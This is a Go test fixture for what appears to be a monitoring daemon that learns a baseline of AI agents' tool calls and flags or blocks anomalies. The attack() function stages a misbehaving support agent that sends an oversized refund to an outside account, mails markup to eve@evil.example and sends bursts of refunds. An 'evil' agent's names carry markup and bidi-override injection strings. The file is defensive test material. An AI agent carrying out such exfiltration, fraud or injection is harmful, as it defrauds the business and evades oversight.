package daemon_test

import (
	"encoding/json"
	"fmt"
	"iter"
	"math/rand/v2"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/umpire-dev/umpire/cmd/umpire/internal/config"
	"github.com/umpire-dev/umpire/cmd/umpire/internal/daemon"
	"github.com/umpire-dev/umpire/rules"
	"github.com/umpire-dev/umpire/rules/baseline"
	"github.com/umpire-dev/umpire/rules/event"
	"github.com/umpire-dev/umpire/store"
)

const habitRules = `
tools:
  - {match: "billing/get_*", effects: [read]}
  - {match: "mail/*", effects: [egress]}
rules:
  - {name: strange, on: "*/*", baseline: {stranger_than: 0.9999}, do: log}
  - {name: strange-way-out, on: "mail/*", baseline: {stranger_than: 0.999}, do: deny}
`

// practice is a history of agents that work for a while, after which a baseline is promoted, and go on for a week.
type practice struct {
	t     testing.TB
	log   []event.Event
	state *rules.State
	at    event.Time
	rng   *rand.Rand
	open  bool // calls are judged
	links map[string]bool
}

func (p *practice) put(session string, cause uint64, body event.Body) event.Event {
	e := event.Event{V: event.Version, Seq: uint64(len(p.log) + 1), At: p.at, Session: session, Cause: cause, Body: body}
	p.state.Apply(e)
	p.log = append(p.log, e)
	return e
}

// call lets an agent make a call so much later.
func (p *practice) call(agent, session, tool string, after time.Duration, args any) event.Action {
	p.t.Helper()
	text, err := json.Marshal(args)
	if err != nil {
		p.t.Fatal(err)
	}
	p.at = p.at.Add(after)
	server, name, _ := strings.Cut(tool, "/")
	peer := event.Peer{Principal: "local:ann", Agent: agent}
	if link := session + server; !p.links[link] {
		p.links[link] = true
		p.put(session, 0, &event.Opened{Link: link, Server: server, Transport: "http", Peer: peer})
	}
	c := &event.Call{Server: server, Tool: name, ID: json.RawMessage("1"), Args: text, Size: len(text), Peer: peer}
	e := event.Event{V: event.Version, Seq: uint64(len(p.log) + 1), At: p.at, Session: session, Body: c}
	v := event.Verdict{Action: event.Allow, Policy: p.state.Policy().Digest()}
	if p.open {
		v = p.state.Decide(e)
	}
	p.put(session, 0, c)
	p.put(session, e.Seq, &v)
	if v.Action.Passes() {
		p.put(session, e.Seq, &event.Result{Server: server, Tool: name, Outcome: event.OutcomeOK, Size: 200 + p.rng.IntN(400), Content: json.RawMessage("{}")})
	}
	return v.Action
}

func (p *practice) wait() time.Duration {
	return time.Duration(2000+p.rng.IntN(8000)) * time.Millisecond
}

// customer is what support does for one customer.
func (p *practice) customer(agent, session string) {
	p.call(agent, session, "billing/find_customer", p.wait(), map[string]any{"email": fmt.Sprintf("c%d@example.com", p.rng.IntN(5000))})
	order := ""
	for range 1 + p.rng.IntN(3) {
		order = fmt.Sprintf("ord_%d", 100_000+p.rng.IntN(900_000))
		p.call(agent, session, "billing/get_order", p.wait(), map[string]any{"order_id": order})
	}
	switch p.rng.IntN(5) {
	case 0, 1:
		p.call(agent, session, "billing/issue_refund", p.wait(), map[string]any{"order_id": order, "amount": 5 + p.rng.IntN(90), "reason": []string{"damaged", "late", "wrong item"}[p.rng.IntN(3)]})
		p.call(agent, session, "crm/add_note", p.wait(), map[string]any{"order_id": order, "text": "refunded, as the customer asked"})
	case 2:
		p.call(agent, session, "crm/close_ticket", p.wait(), map[string]any{"ticket": p.rng.IntN(100_000), "as": "solved"})
	}
}

// research is what another agent does; its name and its tools try to become a part of pages.
func (p *practice) research(agent, session string, names []string) {
	for i := range 3 + p.rng.IntN(3) {
		p.call(agent, session, names[i%len(names)], p.wait(), map[string]any{markup: markup, "q": fmt.Sprint("word ", p.rng.IntN(9000), " more words in it")})
	}
}

// evil is an agent with a name that wants to become markup, and its tools.
var (
	evil      = "\u202eevil" + strings.ReplaceAll(markup, `"`, "'")
	evilTools = []string{"web/" + markup, "web/\u200b\x07search", "web/" + strings.Repeat("long", 2500)}
)

// days lets so many days pass, on each of which agents work from 09:00 on (UTC).
func (p *practice) days(begin time.Time, n int) {
	for day := range n {
		for i := range 9 {
			at := event.At(begin.AddDate(0, 0, day).Add(time.Duration(9*60+i*45+p.rng.IntN(20)) * time.Minute))
			p.at = max(p.at, at)
			p.customer("support-agent", fmt.Sprintf("s%d-%d", begin.YearDay()+day, i))
			if i%3 == 0 {
				p.research(evil, fmt.Sprintf("e%d-%d", begin.YearDay()+day, i), evilTools)
			}
		}
		if day > n-5 {
			p.customer("night-agent", fmt.Sprintf("n%d-%d", begin.YearDay(), day))
		}
	}
}

// practised returns a history that ends before now: 40 days to learn from, a baseline, and a week at whose end the support agent does
// what it never did.
func practised(t testing.TB, now time.Time) *practice {
	t.Helper()
	policy, err := rules.Compile([]event.Source{{Name: "policy.yaml", Text: habitRules}}, config.Env())
	if err != nil {
		t.Fatal(err)
	}
	begin := now.UTC().Truncate(24*time.Hour).AddDate(0, 0, -47)
	p := &practice{t: t, state: rules.NewState(policy), at: event.At(begin), rng: rand.New(rand.NewPCG(3, 4)), links: map[string]bool{}}
	p.put("", 0, policy.Loaded())
	p.days(begin, 40)
	b, err := baseline.Learn(p.history, baseline.Learning{Effects: func(server, tool string) []string { return policy.About(server, tool).Effects }})
	if err != nil {
		t.Fatal(err)
	}
	text, err := b.Encode()
	if err != nil {
		t.Fatal(err)
	}
	if b, err = baseline.Parse(text); err != nil {
		t.Fatal(err)
	}
	p.put("", 0, &event.Promoted{Who: "local:ann", Digest: b.Digest(), Name: "baseline.json", Baseline: json.RawMessage(strings.TrimSuffix(string(text), "\n"))})
	p.open = true
	p.days(begin.AddDate(0, 0, 40), 7)
	p.attack()
	return p
}

// attack is what the support agent never did.
func (p *practice) attack() {
	const agent = "support-agent"
	p.customer(agent, "x1")
	p.call(agent, "x1", "billing/issue_refund", p.wait(), map[string]any{"order_id": "ord_555555", "amount": 9500, "reason": "urgent", "to_account": "DE02120300000000202051"})
	p.call(agent, "x1", "mail/send", p.wait(), map[string]any{"to": "eve@evil.example", "body": markup})
	for range 25 {
		p.call(agent, "x2", "billing/issue_refund", 64*time.Millisecond, map[string]any{"order_id": fmt.Sprintf("ord_%d", 100_000+p.rng.IntN(900_000)), "amount": 20 + p.rng.IntN(50), "reason": "late"})
	}
	for i := range 14 {
		p.call(agent, "x3", "billing/get_order", 45*time.Second, map[string]any{"order_id": fmt.Sprintf("ord_%d", 200_001+i)})
	}
	p.call(evil, "x4", "web/<b>new</b>", p.wait(), map[string]any{"\u202epath": markup})
}

func (p *practice) history(from uint64) iter.Seq2[event.Event, error] {
	return func(yield func(event.Event, error) bool) {
		for _, e := range p.log[from-1:] {
			if !yield(e, nil) {
				return
			}
		}
	}
}

// store records the history before a daemon starts.
func (p *practice) store(opts daemon.Options) {
	p.t.Helper()
	db, err := store.Open(store.Config{Path: filepath.Join(opts.StateDir, config.HistoryFile), Async: true})
	if err != nil {
		p.t.Fatal(err)
	}
	defer db.Close()
	db.Append(p.log, func(err error) {
		if err != nil {
			p.t.Error(err)
		}
	})
}
